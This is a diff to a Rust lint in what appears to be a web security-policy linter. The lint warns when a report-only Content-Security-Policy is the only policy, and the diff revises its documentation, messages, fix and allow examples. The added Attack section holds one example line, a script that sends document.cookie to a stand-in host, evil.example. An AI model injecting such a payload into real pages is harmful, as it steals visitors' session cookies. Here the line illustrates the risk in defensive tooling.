@@ -6,12 +6,20 @@ use crate::policy::SecurityPolicy;
 lint! {
     /// # What it does
     ///
-    /// Looks for a `content_security_policy_report_only` beside which nothing is enforced.
+    /// Looks for `content_security_policy_report_only` in a policy of pages that enforces nothing.
     ///
     /// # Why it matters
     ///
-    /// Browsers report what the policy would have stopped, and let it happen. That is how a policy is tried out; left
-    /// so, it looks like protection and is none.
+    /// Browsers report what a report-only policy would block, and do not block it. That is the way to try a policy out.
+    /// If it stays that way, the site looks protected and is not.
+    ///
+    /// # Attack
+    ///
+    /// The script runs, and its report arrives afterwards:
+    ///
+    /// ```html
+    /// <script>fetch("https://evil.example/?" + document.cookie)</script>
+    /// ```
     ///
     /// # Example
     ///
@@ -19,17 +27,28 @@ lint! {
     /// content_security_policy_report_only: { default_src: self, report_uri: "/csp" },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Enforce what is known to work, and keep the stricter policy report-only until no reports arrive.
     ///
     /// ```text
     /// content_security_policy: { default_src: self, base_uri: none, form_action: self, frame_ancestors: none },
     /// content_security_policy_report_only: { default_src: self, script_src: nonce, report_uri: "/csp" },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_report_only_alone, reason = "trial until the end of March")]
+    /// content_security_policy_report_only: { … },
+    /// ```
+    ///
+    /// Reasonable for a trial that ends.
+    ///
     /// # References
     ///
-    /// - [CSP3, section 3.2](https://w3c.github.io/webappsec-csp/#cspro-header)
-    Warn "a policy that is only reported on protects nobody" companion, check
+    /// - [CSP3, section 3.2, Content-Security-Policy-Report-Only](https://w3c.github.io/webappsec-csp/#cspro-header)
+    Warn "a report-only policy without an enforced one" companion, check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -38,8 +57,8 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
         return;
     }
     report.push(
-        Diagnostic::finding(header.span, "this policy is only reported on, and nothing is enforced beside it")
-            .help("once the reports are quiet, write `content_security_policy`")
+        Diagnostic::finding(header.span, "this policy is report-only, and no other one is enforced")
+            .help("once no more reports arrive, write `content_security_policy`")
             .note("browsers report an injected script, and run it"),
     );
 }
